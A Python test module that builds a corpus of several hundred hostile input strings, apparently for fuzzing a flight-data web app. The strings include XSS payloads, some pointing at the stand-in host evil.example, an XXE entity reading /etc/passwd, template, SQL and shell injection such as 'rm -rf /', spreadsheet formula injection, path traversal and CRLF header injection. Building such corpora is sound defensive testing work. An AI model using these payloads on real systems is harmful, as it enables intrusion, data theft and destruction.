"""Texts that mean harm: as markup, template, formula, path, header or bytes. Each would set `__pwned` if it ran."""

RUN = "window.__pwned=1"
_TAGS = [
    "<script>{r}</script>", "<ScRiPt>{r}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={r}>",
    "<svg onload={r}>", "<svg><script>{r}</script></svg>", "<iframe srcdoc='<script>parent.{r}</script>'>", "<body onload={r}>",
    "<details open ontoggle={r}>", "<input autofocus onfocus={r}>", "<a href=javascript:{r}>x</a>", "<math><mi xlink:href=javascript:{r}>",
    "<style>@import'//evil.example'</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>", "<object data=//evil.example>",
    "<marquee onstart={r}>", "<video><source onerror={r}>", "<template><script>{r}</script></template>", "<!--<script>{r}</script>",
    "--><script>{r}</script>", "<![CDATA[<script>{r}</script>]]>", "<?xml version='1.0'?><x/>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;{r}&lt;/script&gt;", "&#60;script&#62;{r}", "<x onclick={r}>x</x>", "<noscript><p title='</noscript><img src=x onerror={r}>'>",
]  # fmt: skip
_BREAKS = [
    "\"><script>{r}</script>", "'><script>{r}</script>", "\" onmouseover=\"{r}", "' onmouseover='{r}", "\" autofocus onfocus=\"{r}\" x=\"",
    "` onerror=`{r}", "</title><script>{r}</script>", "</textarea><script>{r}</script>", "</bdi><img src=x onerror={r}>", "</svg><script>{r}</script>",
    "</style><script>{r}</script>", "</script><script>{r}</script>", "\\\"><img src=x onerror={r}>", "]]></name><script>{r}</script>", "x\" style=\"position:fixed",
    "javascript:{r}", "JaVaScRiPt:{r}", "data:text/html,<script>{r}</script>", "//evil.example/", "https://evil.example/", "vbscript:{r}",
]  # fmt: skip
_TEMPLATES = [
    "{{{{7*7}}}}", "{{% for x in () %}}{{% endfor %}}", "{{{{config}}}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{{{''.__class__.__mro__}}}}",
    "{{# x #}}", "%(x)s", "%s%n", "{{0}}", "{{x.__globals__}}", "$(id)", "`id`", "; rm -rf /", "' OR '1'='1", "'; DROP TABLE flights;--", "\" UNION SELECT 1--",
]  # fmt: skip
_FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "=HYPERLINK(\"//evil.example\",\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "=1,=2", "\"=1\"", "＝1+1", "'=1", "-", "=", "+", "@", "%0A=1", ";=1",
]  # fmt: skip
_UNICODE = [
    "\u202eevil", "\u2066a\u2069", "a\u200bb", "\ufeffx", "\u2028x", "\u2029x", "\u0085x", "x\u0000y", "\x1b[31mred", "\x07bell", "\x7f",
    "\ud7ff", "\ufffd", "\U0001f6e9", "é" * 40, "e" + "\u0301" * 60, "עובדה", "مطار", "Овда", "中文", "\U000e0041", "ⅠⅡ", "ﬁ", "İi", "ß", "\u00ad",
    "\u061c\u200f", "\ufff9x\ufffb", "\uffff", "٣٣", "𝟙", "K\u212a", "\ue000",
]  # fmt: skip
_PATHS = [
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/", "..\\..\\windows", "/etc/passwd", "C:\\x", "//x", "%00", "%0d%0aSet-Cookie:x=1",
    "x\r\nSet-Cookie: a=1", "x\nLocation: //evil.example", "%25252e", "%c0%ae%c0%ae/", "a/../b", ".", "..", "...", "~", "~~", "?x=1", "#x", "x;y", "a&b=c",
    "%", "%zz", "%u0041", "a%20b", "con", "nul.txt", "index.html", "data.csv", "static/../app.py", "%3Cscript%3E", "search/index.json",
]  # fmt: skip
_LONG = ["A" * 5_000, "<" * 300, "\"" * 300, "9" * 400, "../" * 200, "&amp;" * 100, "\u202e" * 100, "{{" * 200, "1e309", "-0", "NaN", "inf"]


def texts():
    """Several hundred texts, each once."""
    made = [*_FORMULAS, *_UNICODE, *_PATHS, *_LONG]
    for group in (_TAGS, _BREAKS, _TEMPLATES):
        made += [text.format(r=RUN) for text in group]
    for text in [t.format(r=RUN) for t in (*_TAGS[:14], *_BREAKS[:12])]:
        made += [text.replace("<", "\uff1c").replace(">", "\uff1e"), text.replace("<", "%3C").replace(">", "%3E"), f"A320 {text}"]
        made += ["".join(f"&#{ord(c)};" for c in text[:20]), text.replace("<", "<\u200b"), text.upper()]
    return list(dict.fromkeys(made))
